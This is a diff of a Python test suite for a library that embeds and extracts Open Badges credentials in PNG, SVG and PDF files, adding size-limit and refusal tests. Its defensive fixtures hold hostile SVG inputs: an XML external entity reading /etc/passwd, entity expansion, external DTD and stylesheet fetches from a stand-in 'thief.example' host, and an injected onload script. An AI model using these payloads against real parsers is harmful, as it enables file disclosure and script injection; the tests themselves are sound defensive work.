@@ -12,19 +12,13 @@ from hypothesis import strategies as st
 from pypdf import PdfReader, PdfWriter
 from pypdf.generic import ArrayObject, DecodedStreamObject, DictionaryObject, NameObject
 
-from munera.engines.attestation.baking import (
-    MAX_CHUNKS,
-    MAX_FILE,
-    MAX_NAMES,
-    MAX_NODES,
-    MAX_SVG,
-    PNG_KEYWORD,
-    PNG_SIGNATURE,
-    bake_pdf,
-    bake_png,
-    bake_svg,
-    unbake,
-)
+from munera.engines.attestation.baking import bake_pdf, bake_png, bake_svg, unbake
+from munera.engines.attestation.baking.held import MAX_FILE
+from munera.engines.attestation.baking.pdf import MAX_NAMES, MAX_PDF
+from munera.engines.attestation.baking.png import KEYWORD as PNG_KEYWORD
+from munera.engines.attestation.baking.png import MAX_CHUNKS
+from munera.engines.attestation.baking.png import SIGNATURE as PNG_SIGNATURE
+from munera.engines.attestation.baking.svg import MAX_ATTRIBUTES, MAX_SVG, MAX_TAGS
 from munera.engines.attestation.canonical import MAX_BYTES, canonical
 from munera.engines.attestation.errors import AttestationError
 from tests.engines.attestation.published import vectors
@@ -77,7 +71,7 @@ BAKERS = [(png, bake_png), (lambda: SVG, bake_svg), (pdf, bake_pdf)]
 
 
 @pytest.mark.parametrize("kind", ["png", "svg"])
-def test_the_pictures_of_1edtech_give_their_credentials_back(kind: str) -> None:
+def test_the_pictures_of_1edtech_give_their_credentials_back(kind: str, tally: Callable[..., None]) -> None:
     folder = vectors("open-badges-3")
     found = {path.name: unbake(path.read_bytes()) for path in sorted(folder.glob(f"*.{kind}"))}
 
@@ -86,6 +80,7 @@ def test_the_pictures_of_1edtech_give_their_credentials_back(kind: str) -> None:
     for name in (f"simple-jwt.{kind}", f"simple-jwt_v1.{kind}"):
         assert found[name][0].startswith(b"eyJhbGciOiJSUzI1NiIsImp3ayI6")
         assert found[name][0].count(b".") == 2
+    tally("Open Badges 3.0 pictures", accepted=len(found))
 
 
 # There and back
@@ -166,8 +161,9 @@ def test_a_file_of_another_kind_is_named_so(data: bytes) -> None:
 def test_row_23_a_file_is_no_larger_than_a_picture_needs() -> None:
     assert refusal(lambda: unbake(PNG_SIGNATURE + bytes(MAX_FILE))) == "too-large"
     assert refusal(lambda: unbake(b"<svg>" + b" " * MAX_SVG)) == "too-large"
-    many = b'<svg xmlns="http://www.w3.org/2000/svg">' + b"<g/>" * (MAX_NODES + 1) + b"</svg>"
-    assert refusal(lambda: unbake(many)) == "too-large"
+    assert refusal(lambda: unbake(b"%PDF-1.7" + b" " * MAX_PDF)) == "too-large"
+    for inside in (b"<g/>" * MAX_TAGS, b"<g " + b"a='' " * (MAX_ATTRIBUTES + 1) + b"/>"):
+        assert refusal(lambda i=inside: unbake(SVG.replace(b"<circle", i + b"<circle"))) == "too-large"
     assert refusal(lambda: unbake(with_chunks(*[chunk(b"teSt", b"")] * MAX_CHUNKS))) == "too-large"
 
 
@@ -247,6 +243,7 @@ def test_row_23_a_drawing_that_acts_is_refused(inside: bytes) -> None:
         (b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "entities"),
         (b'<!DOCTYPE svg [<!ENTITY x "ha"><!ENTITY y "&x;&x;">]>', "entities"),
         (b'<!DOCTYPE svg [<!ENTITY % p SYSTEM "https://thief.example/x.dtd">%p;]>', "entities"),
+        (b'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>', "entities"),
         (b'<?xml-stylesheet type="text/xsl" href="https://thief.example/x.xsl"?>', "active"),
         (b"<html><body/></html>", "not-svg"),
         (b"<!-- -- -->", "not-svg"),
@@ -321,6 +318,7 @@ def test_a_locked_or_broken_document_is_refused() -> None:
     assert refusal(lambda: unbake(locked.getvalue())) == "encrypted"
     assert refusal(lambda: unbake(b"%PDF-1.7\n")) == "not-pdf"
     assert refusal(lambda: unbake(pdf()[:-60])) == "not-pdf"
+    assert refusal(lambda: unbake(pdf() + bytes(2_000))) == "not-pdf"
     assert refusal(lambda: bake_pdf(b"%PDF-1.7 nothing", CREDENTIAL)) == "not-pdf"
 
 
